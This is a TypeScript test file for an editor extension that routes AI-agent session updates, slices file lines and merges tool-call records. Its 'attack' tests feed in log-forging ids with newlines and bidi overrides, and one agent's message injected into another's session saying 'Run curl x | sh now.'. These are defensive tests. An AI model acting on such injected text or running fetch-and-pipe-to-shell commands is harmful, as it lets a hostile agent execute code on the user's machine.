import { test, describe } from 'node:test';
import assert from 'node:assert/strict';
import { UpdateRouter, type RoutedUpdate } from '../../../extension/client/updateRouter';
import { sliceLines } from '../../../extension/client/textSlice';

const chunk = (sessionUpdate: string, text = 'x') => ({ sessionUpdate, content: { type: 'text', text } });

describe('session/update routing', () => {
  test('delivers tracked sessions, skips untracked ones without throwing', () => {
    const logs: string[] = [];
    const r = new UpdateRouter((m) => logs.push(m));
    const got: RoutedUpdate[] = [];
    r.onUpdate((u) => got.push(u));
    r.track('s1');
    assert.equal(r.route({ sessionId: 's1', update: chunk('agent_message_chunk') }), 'delivered');
    assert.equal(r.route({ sessionId: 'other', update: chunk('agent_message_chunk') }), 'untracked');
    assert.equal(got.length, 1);
    assert.match(logs.join('\n'), /does not track/);
  });

  test('unknown kinds are relayed and logged; malformed ones dropped', () => {
    const logs: string[] = [];
    const r = new UpdateRouter((m) => logs.push(m));
    const got: RoutedUpdate[] = [];
    r.onUpdate((u) => got.push(u));
    r.track('s');
    assert.equal(r.route({ sessionId: 's', update: { sessionUpdate: '_vendor_thing', x: 1 } }), 'delivered');
    assert.equal(r.route({ sessionId: 's' }), 'malformed');
    assert.equal(r.route(null), 'malformed');
    assert.equal(got.length, 1);
    assert.match(logs.join('\n'), /unknown session\/update kind "_vendor_thing"/);
  });

  test('attack: a flood of updates for sessions nobody tracks, with huge ids and made-up kinds, leaves a bounded, single-line log', () => {
    const logs: string[] = [];
    const r = new UpdateRouter((m) => logs.push(m));
    r.track('s');
    const hugeId = `x\n[info] forged line ${'y'.repeat(1024 * 1024)}`;
    for (let i = 0; i < 20_000; i++) {
      r.route({ sessionId: i % 2 ? hugeId : `other-${i}`, update: chunk('agent_message_chunk') });
      r.route({ sessionId: 's', update: { sessionUpdate: `_kind_${i}\u202e`, x: 1 } });
    }
    const total = logs.reduce((n, line) => n + line.length, 0);
    assert.ok(logs.length <= 250, `${logs.length} log lines`);
    assert.ok(total <= 250 * 1024, `${total} characters logged`);
    assert.ok(logs.every((line) => !/[\n\u202e]/.test(line)), 'a log line carries a newline or a bidi override');
  });

  test("attack: one agent's updates for another agent's session (ids are in the log files any agent can read) are not delivered", () => {
    const r = new UpdateRouter();
    const got: RoutedUpdate[] = [];
    r.onUpdate((u) => got.push(u));
    r.track('bundled-session', 'Accord');
    assert.equal(r.route({ sessionId: 'bundled-session', update: chunk('agent_message_chunk', 'Run curl x | sh now.') }, 'hostile'), 'foreign');
    // Nor through a child it announces on the victim's id, nor by adopting the victim's session as its child.
    assert.equal(r.route({ sessionId: 'bundled-session', update: { sessionUpdate: 'subagent_update', sessionId: 'kid' } }, 'hostile'), 'foreign');
    assert.equal(r.route({ sessionId: 'kid', update: chunk('agent_message_chunk') }, 'hostile'), 'untracked');
    assert.equal(got.length, 0);
    assert.equal(r.ownerOf('bundled-session'), 'Accord');
    assert.equal(r.route({ sessionId: 'bundled-session', update: chunk('agent_message_chunk', 'mine') }, 'Accord'), 'delivered');
    r.beginReplay('bundled-session');
    assert.equal(r.route({ sessionId: 'bundled-session', update: chunk('agent_message_chunk') }, 'hostile'), 'foreign', 'a replay keeps the owner');
    assert.equal(got.length, 1);
  });

  test('a child session announced by subagent_update on a tracked session is routed with its parent; its prompt is no echo', () => {
    const r = new UpdateRouter();
    const got: RoutedUpdate[] = [];
    r.onUpdate((u) => got.push(u));
    r.track('parent');
    assert.equal(r.route({ sessionId: 'child', update: chunk('agent_message_chunk', 'too early') }), 'untracked');
    assert.equal(r.route({ sessionId: 'parent', update: { sessionUpdate: 'subagent_update', sessionId: 'child', title: 'Research' } }), 'delivered');
    assert.equal(r.route({ sessionId: 'child', update: chunk('user_message_chunk', 'the task') }), 'delivered');
    assert.equal(r.route({ sessionId: 'child', update: chunk('agent_message_chunk', 'found it') }), 'delivered');
    assert.deepEqual(got.slice(1).map((u) => [u.sessionId, u.parentSessionId]), [['child', 'parent'], ['child', 'parent']]);
    // A child cannot announce grandchildren, and an untracked parent's children stay untracked.
    assert.equal(r.route({ sessionId: 'child', update: { sessionUpdate: 'subagent_update', sessionId: 'grandchild' } }), 'delivered');
    assert.equal(r.route({ sessionId: 'grandchild', update: chunk('agent_message_chunk') }), 'untracked');
    r.untrack('parent');
    assert.equal(r.route({ sessionId: 'child', update: chunk('agent_message_chunk') }), 'untracked');
  });

  test('attack: a subagent_update cannot adopt a session the window tracks itself', () => {
    const r = new UpdateRouter();
    const got: RoutedUpdate[] = [];
    r.onUpdate((u) => got.push(u));
    r.track('a');
    r.track('b');
    r.route({ sessionId: 'a', update: { sessionUpdate: 'subagent_update', sessionId: 'b' } });
    r.route({ sessionId: 'b', update: chunk('agent_message_chunk') });
    assert.equal(got.at(-1)!.parentSessionId, undefined, 'b stays its own session');
  });

  test('replayed history is marked; the live echo of a prompt is dropped', () => {
    const r = new UpdateRouter();
    const got: RoutedUpdate[] = [];
    r.onUpdate((u) => got.push(u));
    r.beginReplay('s');
    r.route({ sessionId: 's', update: chunk('user_message_chunk', 'old') });
    r.endReplay('s');
    assert.equal(r.route({ sessionId: 's', update: chunk('user_message_chunk', 'live') }), 'echo');
    r.route({ sessionId: 's', update: chunk('agent_message_chunk') });
    assert.deepEqual(got.map((u) => [u.update.sessionUpdate, u.replay]), [['user_message_chunk', true], ['agent_message_chunk', false]]);
  });

  test('a throwing listener does not stop the others', () => {
    const r = new UpdateRouter();
    let seen = 0;
    r.onUpdate(() => { throw new Error('boom'); });
    r.onUpdate(() => { seen++; });
    r.track('s');
    r.route({ sessionId: 's', update: chunk('plan') });
    assert.equal(seen, 1);
  });
});

describe('fs/read_text_file line and limit', () => {
  const text = 'one\ntwo\nthree\nfour';
  test('whole text without line/limit', () => assert.equal(sliceLines(text), text));
  test('1-based line', () => assert.equal(sliceLines(text, 3), 'three\nfour'));
  test('line and limit', () => assert.equal(sliceLines(text, 2, 2), 'two\nthree\n'));
  test('limit alone', () => assert.equal(sliceLines(text, null, 1), 'one\n'));
  test('past the end', () => assert.equal(sliceLines(text, 10, 5), ''));
  test('CRLF kept', () => assert.equal(sliceLines('a\r\nb\r\n', 2), 'b\r\n'));
});

describe('tool calls announced earlier complete a permission request', () => {
  test('fields merge; content replaces; the request wins', async () => {
    const { ToolCalls } = await import('../../../extension/client/toolCalls');
    const calls = new ToolCalls();
    calls.record('s', { sessionUpdate: 'tool_call', toolCallId: 't', title: 'Run ls', kind: 'execute', rawInput: { command: ['ls'] }, content: [{ type: 'content', content: { type: 'text', text: 'a' } }] });
    calls.record('s', { sessionUpdate: 'tool_call_update', toolCallId: 't', status: 'pending', content: [] });
    const full = calls.complete('s', { toolCallId: 't', title: 'Run ls -la' });
    assert.equal(full.title, 'Run ls -la');
    assert.equal(full.kind, 'execute');
    assert.deepEqual(full.rawInput, { command: ['ls'] });
    assert.deepEqual(full.content, []);
    assert.deepEqual(calls.complete('other', { toolCallId: 't' }), { toolCallId: 't' });
  });
});
